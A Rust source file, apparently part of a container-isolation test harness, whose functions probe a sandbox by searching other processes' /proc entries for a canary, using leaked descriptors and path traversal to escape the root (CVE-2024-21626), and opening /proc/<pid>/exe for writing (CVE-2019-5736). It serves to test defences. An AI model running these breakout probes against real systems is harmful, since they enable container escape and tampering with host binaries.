//! What `/proc` tells about other processes, and what this one was given by mistake.

use std::{
    fs::{self, File, OpenOptions},
    os::fd::AsRawFd as _,
};

use crate::{
    args::Args,
    sys::{at, c, contains, pids, slurp, try_call},
    tell::{Outcome, any, attempt, refused},
};

/// Looks for `token=` and `rest=` as one word in what the processes that show in `/proc` were started with.
pub(crate) fn scan(args: &Args) {
    // In two halves, so that the attacker's own command line does not hold it.
    let token = format!("{}{}", args.get("token"), args.get("rest"));
    let token = token.as_bytes();
    let own = std::process::id().cast_signed();
    for file in ["environ", "cmdline", "comm"] {
        let outcome = pids().into_iter().filter(|pid| *pid != own).map(|pid| -> Outcome {
            let bytes = slurp(&format!("/proc/{pid}/{file}"))?;
            if contains(&bytes, token) {
                Ok(format!("the canary is in /proc/{pid}/{file}"))
            } else {
                refused("not there")
            }
        });
        any(&format!("scan.{file}"), outcome);
    }
    any(
        "signal",
        args.all("pid").map(|pid| {
            let pid = pid.parse().unwrap_or(i32::MAX);
            let bytes = slurp(&format!("/proc/{pid}/cmdline"))?;
            // The number may be in use inside for something else.
            if !contains(&bytes, token) {
                return refused("there is another process of that number, or none");
            }
            crate::sys::kill(pid, 0)?;
            Ok(format!("process {pid} can be signalled"))
        }),
    );
}

/// Uses descriptors nobody meant to leave open, and a working directory outside (CVE-2024-21626).
pub(crate) fn descriptors(args: &Args) {
    // The control leaves one open on purpose.
    let _leak = File::open(args.get("leak"));
    let mut found = Vec::new();
    for fd in 3..1024 {
        if let Ok(link) = fs::read_link(format!("/proc/self/fd/{fd}")) {
            found.push((fd, link.display().to_string()));
        }
    }
    let listed: Vec<_> = found.iter().map(|(fd, link)| format!("{fd} → {link}")).collect();
    attempt(
        "leaked",
        if found.is_empty() {
            refused("nothing beyond 0, 1 and 2")
        } else {
            Ok(listed.join(", "))
        },
    );
    let token = args.get("token").as_bytes();
    let reach = |base: String| -> Outcome {
        for path in args.all("path") {
            for way in [
                format!("{base}/../../../../../../../..{path}"),
                format!("{base}/canary"),
            ] {
                if slurp(&way).is_ok_and(|bytes| contains(&bytes, token)) {
                    return Ok(format!("read the canary through {way}"));
                }
            }
        }
        refused("no way out of it")
    };
    any(
        "leaked.read",
        found.iter().map(|(fd, _)| reach(format!("/proc/self/fd/{fd}"))),
    );
    let standard = (0..3).map(|fd| reach(format!("/proc/self/fd/{fd}")));
    any("standard.read", standard);
    attempt("cwd.read", reach(".".to_owned()));
    let mut buffer = vec![0_u8; 4096];
    let outside = try_call(libc::SYS_getcwd, &[buffer.as_mut_ptr() as usize, buffer.len()])
        .is_ok_and(|_| buffer.starts_with(b"(unreachable)"));
    attempt(
        "cwd.outside",
        if outside {
            Ok("the working directory is outside the root".to_owned())
        } else {
            refused("it is inside")
        },
    );
}

/// Opens programs that run for writing, by way of `/proc` (CVE-2019-5736): `pid=` and the
/// attacker itself. A program that runs says "busy" where the way was free.
pub(crate) fn exe(args: &Args) {
    let writable = |path: &str| -> Outcome {
        match OpenOptions::new().write(true).open(path) {
            Ok(_) => Ok(format!("opened {path} for writing")),
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => Ok(format!("{path} is only busy")),
            Err(error) => Err(error.into()),
        }
    };
    let targets = || args.all("pid").chain(["self"]);
    any("exe.open", targets().map(|pid| writable(&format!("/proc/{pid}/exe"))));
    let reopened = targets().map(|pid| -> Outcome {
        let path = c(&format!("/proc/{pid}/exe"));
        let here = libc::AT_FDCWD as isize as usize;
        let fd = try_call(
            libc::SYS_openat,
            &[here, at(&path), (libc::O_PATH | libc::O_CLOEXEC) as usize],
        )?;
        let fd = crate::sys::owned(fd);
        writable(&format!("/proc/self/fd/{}", fd.as_raw_fd()))
    });
    any("exe.reopen", reopened);
}
